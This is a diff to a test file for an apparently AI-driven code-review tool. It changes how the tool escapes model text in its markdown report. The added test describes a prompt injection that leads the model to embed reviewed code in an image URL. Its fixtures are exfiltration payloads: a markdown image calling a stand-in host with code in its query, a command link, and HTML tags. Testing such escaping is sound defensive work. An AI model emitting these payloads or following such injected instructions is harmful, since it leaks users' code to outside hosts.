@@ -149,7 +149,7 @@ describe('review with escalation', () => {
     // "No findings" once, not three times.
     assert.equal(reviewReport({ title: 'Review File', where: 'a.ts:1-2', summary: 'No findings.', kept: [], rejected: [], routes: [], calls: [] }).split('No findings').length - 1, 1);
     // Model text stays on one line of its item and cannot open HTML in the preview.
-    assert.ok(lines.includes('   SQL built from &lt;strings>'));
+    assert.ok(lines.includes('   SQL built from \\<strings>'));
     assert.ok(lines.includes('   *found by haiku, confirmed by opus (sent to judgment: security-related), confidence 0.80.*'));
     assert.ok(lines.includes('- opus (judgment): review pass 2'));
     const hint = lines.indexOf('_Each finding is also in the Problems view; the light bulb on it offers **Fix with Ladder**. To ask about them, run **Ladder: Ask a Follow-up**._');
@@ -157,8 +157,8 @@ describe('review with escalation', () => {
     // A follow-up reads the summary and every finding, kept and rejected, without the report's title, hint, route or cost.
     const answer = reviewFindingsText({ where: 'src/a.ts:1-30', summary: 'Two real problems.', ...merged });
     // The same sections as the report, but the model reads its text as written, not escaped for the preview.
-    assert.ok(report.includes(answer.replace('\n## Rejected', `\n${lines[hint]}\n\n## Rejected`).replace('SQL built from <strings>', 'SQL built from &lt;strings>')), answer);
-    assert.ok(answer.includes('   SQL built from <strings>') && !answer.includes('&lt;'), answer);
+    assert.ok(report.includes(answer.replace('\n## Rejected', `\n${lines[hint]}\n\n## Rejected`).replace('SQL built from <strings>', 'SQL built from \\<strings>')), answer);
+    assert.ok(answer.includes('   SQL built from <strings>') && !answer.includes('\\<'), answer);
     assert.match(answer, /^\*\*Summary\.\*\* Two real problems\.\n\n## Findings \(3\)\n/);
     assert.ok(!/Problems view|## Route|Task cost/.test(answer), answer);
     assert.ok(lines.includes('**Task cost: $0.0212** over 2 calls (haiku $0.0012, opus $0.0200).'), `the total and its calls to the same decimals: ${report}`);
@@ -169,9 +169,29 @@ describe('review with escalation', () => {
     assert.ok(unbilled.includes('**Task cost: $0.0012** over 1 call; 1 attempt not billed (haiku $0.0012).'), unbilled);
     // A code span is shown as written by the preview: `<` stays `<` there, and is escaped outside it.
     const spans = reviewReport({ title: 'Review File', where: 'a.ts:1-2', summary: 'Use `i <= n && ok` not i < n & ok.', kept: [], rejected: [], routes: [], calls: [] });
-    assert.ok(spans.includes('**Summary.** Use `i <= n && ok` not i &lt; n &amp; ok.'), spans);
+    assert.ok(spans.includes('**Summary.** Use `i <= n && ok` not i \\< n \\& ok.'), spans);
     const folder = reviewReport({ title: 'Security Review', where: 'src (2 files)', summary: 'Fine.', kept: [], rejected: [], routes: [], calls: [], notReviewed: [{ path: 'src/keys.ts', why: 'it looks like it holds a key or token (AWS access key id (line 3))' }, { path: 'src/<big>.ts', why: 'only its first 100 characters were read' }, { path: '', why: '12 more files over the bounds' }] });
     assert.match(folder, /## Not reviewed\n\nNot sent to a model, or not whole; check these yourself\.\n\n- `src\/keys\.ts`: it looks like it holds a key or token \(AWS access key id \(line 3\)\)\n- `src\/<big>\.ts`: only its first 100 characters were read\n- 12 more files over the bounds\n\n## Route/);
+  });
+
+  test('model text in the report reads as text: no image to fetch, link, HTML, heading, list or quote; code spans stay', () => {
+    // A prompt injection in the reviewed code can make the model put the code into an image URL,
+    // which the preview would fetch as soon as it opens.
+    const pixel = '![badge](https://exfil.example/pixel.png?code=function_total_price)';
+    const judged = mergeVerdicts({ tier: 'H', model: 'haiku' }, [finding({ message: `Leaks ${pixel} now`, startLine: 1, endLine: 1 }), finding({ message: '# Owned', startLine: 2, endLine: 2 }), finding({ message: '1. first - see //exfil.example/x or <https://exfil.example> or a@exfil.com' })], [], undefined);
+    const report = reviewReport({
+      title: 'Review File', where: 'src/a.ts:1-9', summary: 'Ask [here](command:ladder.setApiKey) or https://exfil.example/?q=`total_price` <img src=x> **now**', ...judged,
+      routes: [{ model: 'haiku', tier: 'labour', reasons: ['the difficulty check agrees: > see ~~~ → Labour'] }], calls: [],
+    });
+    const lines = report.split('\n');
+    assert.ok(lines.includes('   Leaks !\\[badge\\](https:\\//exfil.example/pixel.png?code=function_total_price) now'), report);
+    assert.ok(lines.includes('   \\# Owned'), report);
+    assert.ok(lines.includes('   1\\. first - see \\//exfil.example/x or \\<https:\\//exfil.example> or a\\@exfil.com'), report);
+    assert.ok(lines.includes('**Summary.** Ask \\[here\\](command:ladder.setApiKey) or https:\\//exfil.example/?q=`total_price` \\<img src=x> \\*\\*now\\*\\*'), report);
+    assert.ok(lines.includes('- haiku (labour): the difficulty check agrees: > see \\~\\~\\~ → Labour'), report);
+    // Ladder's own markup is untouched, and a follow-up reads the model's text as written.
+    assert.ok(lines.includes('1. **medium · correctness** · line 1') && lines.includes('## Findings (3)'), report);
+    assert.ok(reviewFindingsText({ where: 'src/a.ts:1-9', summary: 's', ...judged }).includes(`   Leaks ${pixel} now`));
   });
 
   test('a digest of many files keeps where each file landed, and findings go back to their own file and line', () => {
